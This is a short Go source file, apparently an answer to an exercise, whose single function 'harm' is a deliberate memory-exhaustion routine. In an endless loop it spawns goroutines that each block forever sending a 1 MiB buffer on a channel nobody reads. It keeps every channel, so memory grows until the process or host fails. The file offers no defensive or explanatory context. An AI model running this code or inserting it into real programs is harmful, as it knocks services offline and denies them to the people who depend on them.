package answer

func harm() {
	var held []chan []byte
	for {
		one := make(chan []byte)
		go func() { one <- make([]byte, 1<<20) }()
		held = append(held, one)
	}
}
